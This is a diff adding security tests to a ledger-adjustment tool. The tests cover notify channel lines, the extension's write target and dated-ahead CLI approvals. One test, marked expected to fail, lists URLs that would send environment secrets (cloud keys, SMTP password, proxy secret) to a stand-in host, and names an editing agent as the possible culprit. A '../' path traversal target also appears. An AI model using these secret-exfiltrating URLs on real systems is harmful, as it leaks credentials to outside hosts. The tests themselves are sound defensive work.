@@ -531,3 +531,71 @@ def test_a_cache_made_before_a_site_check_changed_is_loaded_afresh(
     assert len(parsed) == 2
     assert load_file(path).state("ADJ-1") == "invalid"
     assert len(parsed) == 2
+
+
+# -- notify: what a channel line can send where -----------------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "hole left: a ledger line may name any environment variable of the notify process "
+    "in a URL to a host it names; the fix (an allow-list of the variables channels may "
+    "use, given by the deployment, not the ledger) changes the documented channel set-up"))
+@pytest.mark.parametrize("url", [
+    "json://collector.example.net/{env:BEAN_ADJUST_PROXY_SECRET}",
+    "json://collector.example.net/hook?x={env:AWS_SECRET_ACCESS_KEY}",
+    "mailtos://{env:SMTP_USER}:{env:SMTP_PASSWORD}@smtp.collector.example.net",
+])
+def test_a_channel_line_cannot_send_the_environment_to_a_host_it_names(url: str) -> None:
+    """Whoever edits the ledger (an agent, say) adds a channel for `*` whose URL holds
+    `{env:NAME}` for a secret of the notify process (the proxy's secret, cloud keys, the
+    SMTP password of the real channels) in a part apprise does not mask, or the real
+    credentials with another host: the next run sends them to that host. The secret
+    check only refuses literal secrets; nothing limits which variables a line reads."""
+    from beancount_adjustments.core.notice_lines import Channel
+    from beancount_adjustments.notify.secrets import channel_problem
+    assert channel_problem(Channel(target="*", url=url)) is not None
+
+
+# -- the writer's target ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("target", ["elsewhere.beancount", "../outside.beancount"])
+def test_fava_writes_only_into_a_file_of_its_ledger(tmp_path: Path, target: str) -> None:
+    """The extension's `target` names a file the ledger does not include: held, the
+    writer refuses it (422) and writes nowhere."""
+    (tmp_path / "elsewhere.beancount").write_text("; not included\n")
+    ledger_dir = tmp_path / "books"
+    ledger_dir.mkdir()
+    if target.startswith(".."):
+        (tmp_path / "outside.beancount").write_text("; not included\n")
+    else:
+        target = str(tmp_path / target)  # absolute
+    config = f"{{'user-header': 'X-Remote-User', 'target': '{target}'}}"
+    env = Env(ledger_dir, config)
+    watched = list(tmp_path.rglob("*.beancount"))
+    before = {p: p.read_bytes() for p in watched}
+    response = env.decide([{"id": "ADJ-2", "action": "approve"}])
+    assert response.status_code == 422, response.get_json()
+    assert "is not part of the ledger" in response.get_json()["error"]
+    assert {p: p.read_bytes() for p in watched} == before
+    assert env.state("ADJ-2") == "pending"
+
+
+def test_the_cli_cannot_date_a_decision_ahead(tmp_path: Path) -> None:
+    """`--date` tomorrow: the plugin would count the approval under tomorrow's roles
+    (dated-ahead); held, the writer refuses it as the plugin would."""
+    from click.testing import CliRunner
+
+    from beancount_adjustments.cli import main
+    from ledgers import request
+    path = tmp_path / "main.beancount"
+    yesterday = datetime.date.today() - datetime.timedelta(days=1)
+    path.write_text(TOOLS_BASE + request("ADJ-1", yesterday.isoformat(), "-50.00",
+                                         customer="cust_123"))
+    before = path.read_bytes()
+    ahead = (datetime.date.today() + datetime.timedelta(days=2)).isoformat()
+    result = CliRunner().invoke(main, ["approve", "ADJ-1", "-f", str(path), "--as", "bob",
+                                       "--date", ahead])
+    assert result.exit_code == 1
+    assert "[dated-ahead]" in result.output
+    assert path.read_bytes() == before
